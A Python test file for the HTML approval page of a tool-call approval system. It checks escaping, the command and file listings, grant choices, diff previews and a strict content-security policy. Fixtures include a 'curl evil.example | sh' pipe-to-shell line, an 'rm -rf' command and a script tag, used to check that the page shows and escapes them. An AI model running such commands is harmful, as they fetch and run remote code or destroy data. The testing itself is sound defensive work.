"""The approval page as a pure function of its data."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codesdk.api.approval_html import PAGE_HEADERS, ApprovalView, render, render_problem
from codesdk.approvals import Approval, ApprovalState, Verdict, Vote
from codesdk.domain.decisions import GrantKind, GrantOffer

DIGEST = "sha256:" + "0" * 64


def approval(shown, *, state=ApprovalState.PENDING, **more):
    return Approval(
        id="apr_1",
        tool_call_id="call_1",
        attempt=1,
        session_id="ses_1",
        tenant_id="ten_1",
        state=state,
        digest=DIGEST,
        shown=shown,
        created_at=0.0,
        expires_at=600.0,
        **more,
    )


def page(shown, *, answers=True, **more):
    return render(
        ApprovalView(approval=approval(shown, **more), answers=answers, voter="ann", requester="bob", now=0.0)
    )


class Reading(HTMLParser):
    """The page's tags, and its text."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [f"{tag}.{name}" for name, _ in attrs]

    def handle_data(self, data):
        self.text += data


PLAIN = Reading(
    page({"tool": "t", "input": {"a": "x"}, "commands": [["x"]], "reason": "x", "other": "x", "risk": ["x"]})
)


@given(st.text())
def test_whatever_is_shown_adds_no_tag_and_no_attribute(text):
    shown = {"tool": "t", "input": {"a": text}, "commands": [[text]], "reason": text, "other": text, "risk": [text]}
    found = Reading(page(shown))
    optional = {"dt", "dd", "dl", "h2", "span"}  # what has no value is not listed; what is long has its size
    assert [tag for tag in found.tags if tag not in optional] == [tag for tag in PLAIN.tags if tag not in optional]
    assert set(found.attributes) <= set(PLAIN.attributes) | {"span.class"}
    assert all(c.isprintable() or c in "\n\t" for c in found.text)


def test_every_command_of_a_line_is_listed_as_one_would_type_it():
    text = Reading(page({"input": {"command": "x"}, "commands": [["git", "push"], ["rm", "-rf", "a b"]]})).text
    assert "Every command in it" in text
    assert "git push" in text
    assert "rm -rf 'a b'" in text


def test_the_files_that_a_yes_is_about_are_named():
    files = [
        {"path": "deploy.sh", "cwd": ".", "kind": "file", "real": "/w/<b>.sh", "size": 12, "sha256": "ab" * 32},
        {"path": "gone", "cwd": ".", "kind": "absent", "real": "", "size": 0},
    ]
    text = page({"input": {}, "bound": {"files": files}})
    assert "deploy.sh → /w/&lt;b&gt;.sh: file, 12 bytes, sha256 abab" in text
    assert "Absent, and must stay absent: gone" in text


def test_who_voted_is_named_and_escaped():
    vote = Vote(by="prn_1", name="<ann>", verdict=Verdict.APPROVE, at=1.0)
    assert "&lt;ann&gt; (prn_1) said yes" in page({"tool": "t"}, votes=(vote,))


def test_words_of_a_command_that_name_no_file_are_counted_on_the_page():
    files = [{"path": path, "cwd": ".", "kind": "absent"} for path in ("+x", "install", "new.sh")]
    text = page({"input": {}, "commands": [["chmod", "+x", "new.sh"]], "bound": {"files": files}})
    assert "Absent, and must stay absent: new.sh" in text
    assert "2 other words of it name no file" in text


def test_files_that_are_not_bound_are_told_in_a_sentence():
    text = page({"input": {}, "bound": {"files": [], "more": "Only the <first> are bound."}})
    assert '<p class="note">Only the &lt;first&gt; are bound.</p>' in text
    assert "more" not in Reading(text).text


def choices(offer):
    text = page({"tool": "t", "input": {}}, grant=offer)
    return [kind for kind in GrantKind if f'name="grant" value="{kind}"' in text], text


@pytest.mark.parametrize("offer", [None, GrantOffer()])
def test_where_a_rule_offers_no_grant_there_is_nothing_to_choose(offer):
    kinds, text = choices(offer)
    assert kinds == []
    assert "<fieldset" not in text


@pytest.mark.parametrize("kind", [GrantKind.SESSION, GrantKind.UNTIL])
def test_a_grant_can_be_chosen_where_it_is_offered_with_its_limits_and_once_is_the_default(kind):
    kinds, text = choices(GrantOffer(offer=(GrantKind.ONCE, kind), max_ttl_s=5400, max_uses=7))
    assert kinds == [GrantKind.ONCE, kind]
    assert "for at most 90 minutes and 7 calls" in text
    assert text.count(" checked>") == 1
    assert 'value="once" checked>' in text


def test_a_preview_shows_its_diff_and_its_output():
    text = page({"input": {}, "preview": {"exit_code": 1, "diff": "-old\n+new\n same", "stdout": "\x1b[31mno"}})
    assert '<span class="cut">-old</span>' in text
    assert '<span class="add">+new</span>' in text
    assert "\\x1b[31mno" in text


def test_a_long_field_says_how_long_it_is_and_is_shown_whole():
    text = page({"input": {"content": "\n" * 5000 + "curl evil.example | sh"}})
    assert "5001 lines" in text
    assert "curl evil.example | sh" in text


def test_the_first_line_end_is_not_swallowed():
    assert "<pre>\n\nx</pre>" in page({"input": {"content": "\nx"}})


@pytest.mark.parametrize("state", [state for state in ApprovalState if state is not ApprovalState.PENDING])
def test_every_end_has_words_and_no_buttons(state):
    text = page({}, answers=False, state=state)
    assert "<button" not in text
    assert "<strong>" in text


def test_what_people_said_is_there():
    vote = Vote(by="prn_1", name="ann", verdict=Verdict.APPROVE, comment="<b>fine</b>", at=1.0)
    assert "ann (prn_1) said yes: &lt;b&gt;fine&lt;/b&gt;" in page({}, votes=(vote,))


@pytest.mark.parametrize("given_", [None, "text", 3, [], {"a": [1, {"b": None}]}])
def test_any_json_can_be_shown(given_):
    assert page(
        {"input": given_, "commands": given_, "preview": given_, "bound": given_, "risk": given_, "rules": None}
    )


def test_a_problem_is_escaped_too():
    assert "<script" not in render_problem("No", "<script>")


def test_the_policy_of_the_page_lets_only_its_own_style_in():
    policy = PAGE_HEADERS["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "script" not in policy
